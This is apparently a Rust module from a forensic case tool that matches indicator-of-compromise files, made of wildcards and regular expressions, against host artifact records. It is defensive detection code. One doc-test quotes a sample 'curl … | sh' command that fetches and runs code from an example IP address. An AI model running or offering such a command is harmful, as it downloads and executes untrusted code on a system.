//! Given indicators, where they occur across a case.
use crate::{parquet_out::artifacts, read_rows, CaseError};
use serde::Serialize;
use std::path::Path;

/// One indicator found in one record.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct HuntHit {
    /// The indicator as given.
    pub ioc: String,
    /// Where it was found.
    pub host: String,
    /// The record's kind.
    pub artifact: String,
    /// The record's name (its summary's).
    pub name: String,
    /// The value of the record that matched (cut to 200 characters), so that the hits of
    /// one indicator on one host's records can be told apart.
    pub value: String,
    /// Where that record is (its summary's location: file, key or log with record id).
    pub location: String,
}

/// Largest compiled size of one regular expression (the indicator file is the examiner's,
/// but a pattern like `(a{1000}){1000}` should fail, not take the memory).
const REGEX_SIZE: usize = 4 << 20;

/// One indicator: a text with `*` wildcards, or a regular expression.
#[derive(Debug, Clone)]
pub enum Indicator {
    /// Matched case-insensitively; `*` matches any run of characters ([`matches()`]).
    Wildcard(String),
    /// A regular expression (Rust `regex` syntax, case-insensitive unless `(?-i)`), given
    /// as `re:PATTERN` or `/PATTERN/`; it matches anywhere in a value.
    Regex(String, regex::Regex),
}

impl Indicator {
    /// The indicators of an IOC file's lines: blank lines and `#` comments are skipped;
    /// `re:PATTERN` and `/PATTERN/` are regular expressions, anything else a wildcard text.
    /// A pattern that does not compile is an error naming its line.
    ///
    /// ```
    /// use foothold_case::Indicator;
    /// let i = Indicator::parse(&["# from the report".into(), r"re:\\temp\\[a-z]{3}\.exe".into(), "*.evil.example".into()]).unwrap();
    /// assert_eq!(i.len(), 2);
    /// assert!(i[0].is_in(r"C:\Windows\Temp\abc.exe"));
    /// assert!(!i[0].is_in(r"C:\Windows\Temp\abcd.exe"));
    /// assert!(i[1].is_in("http://cdn.evil.example/x"));
    /// assert!(Indicator::parse(&["re:(".into()]).is_err());
    /// ```
    pub fn parse(lines: &[String]) -> Result<Vec<Indicator>, CaseError> {
        let mut out = Vec::new();
        for (n, line) in lines.iter().enumerate() {
            let t = line.trim();
            if t.is_empty() || t.starts_with('#') {
                continue;
            }
            let pattern = t.strip_prefix("re:").or_else(|| {
                t.strip_prefix('/')
                    .and_then(|r| r.strip_suffix('/'))
                    .filter(|r| !r.is_empty())
            });
            match pattern {
                Some(p) => {
                    let re = regex::RegexBuilder::new(p)
                        .case_insensitive(true)
                        .size_limit(REGEX_SIZE)
                        .build()
                        .map_err(|e| CaseError::Indicator {
                            line: n + 1,
                            message: e.to_string(),
                        })?;
                    out.push(Indicator::Regex(t.to_string(), re));
                }
                None => out.push(Indicator::Wildcard(t.to_string())),
            }
        }
        Ok(out)
    }

    /// The indicator as given.
    pub fn text(&self) -> &str {
        match self {
            Indicator::Wildcard(t) | Indicator::Regex(t, _) => t,
        }
    }

    /// Whether one value holds the indicator.
    pub fn is_in(&self, value: &str) -> bool {
        match self {
            Indicator::Wildcard(p) => matches(value, p),
            Indicator::Regex(_, re) => re.is_match(value),
        }
    }
}

/// Whether `text` holds `pattern`, case-insensitively; `*` in the pattern matches any run of
/// characters (`*.evil.example`, `C:\Users\*\AppData\*.exe`).
///
/// ```
/// use foothold_case::matches;
/// assert!(matches(r"c:\users\bob\appdata\x.exe -q", r"C:\Users\*\AppData\*.exe"));
/// assert!(matches("curl http://203.0.113.9/x | sh", "203.0.113.9"));
/// assert!(!matches("backup.exe", "evil"));
/// ```
pub fn matches(text: &str, pattern: &str) -> bool {
    let text = text.to_lowercase();
    let pattern = pattern.to_lowercase();
    let mut at = 0;
    for p in pattern.split('*').filter(|p| !p.is_empty()) {
        match text.get(at..).and_then(|t| t.find(p)) {
            Some(pos) => at += pos + p.len(),
            None => return false,
        }
    }
    true
}

/// Every record of a case (every artifact kind: tasks, services, jobs, events, accounts…)
/// one of whose values (any string or number of its JSON) holds one of `iocs` (names,
/// paths, hashes, addresses; `*` wildcards; `re:` or `/…/` regular expressions; blank lines
/// and `#` comments are skipped: [`Indicator::parse`]), one hit per indicator and record.
pub fn hunt(out: &Path, iocs: &[String]) -> Result<Vec<HuntHit>, CaseError> {
    crate::parquet_out::require_case(out)?;
    let iocs = Indicator::parse(iocs)?;
    let mut hits = Vec::new();
    for artifact in artifacts(out) {
        for row in read_rows(out, &artifact)? {
            // The record's values as written (not JSON-escaped: `C:\Users`, not `C:\\Users`).
            let v: serde_json::Value =
                serde_json::from_str(row[6].as_deref().unwrap_or("null")).unwrap_or_default();
            let mut texts = Vec::new();
            values(&v, &mut texts);
            for ioc in &iocs {
                // Within one value: a wildcard does not join two fields.
                if let Some(t) = texts.iter().find(|t| ioc.is_in(t)) {
                    hits.push(HuntHit {
                        ioc: ioc.text().to_string(),
                        host: row[0].clone().unwrap_or_default(),
                        artifact: artifact.clone(),
                        name: row[1].clone().unwrap_or_default(),
                        value: t.chars().take(200).collect(),
                        location: location(&v["source"]),
                    });
                }
            }
        }
    }
    Ok(hits)
}

/// Where a record's source is: its path, with the line, registry key or event record id.
fn location(source: &serde_json::Value) -> String {
    let mut s = source["path"].as_str().unwrap_or_default().to_string();
    if let Some(l) = source["line"].as_u64() {
        s.push_str(&format!(":{l}"));
    }
    if let Some(k) = source["key"].as_str() {
        s.push_str(&format!(" {k}"));
    }
    if let Some(r) = source["record_id"].as_u64() {
        s.push_str(&format!(" record {r}"));
    }
    s
}

/// Every string and number of a JSON value.
fn values(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Number(n) => out.push(n.to_string()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| values(x, out)),
        serde_json::Value::Object(o) => o.values().for_each(|x| values(x, out)),
        _ => {}
    }
}
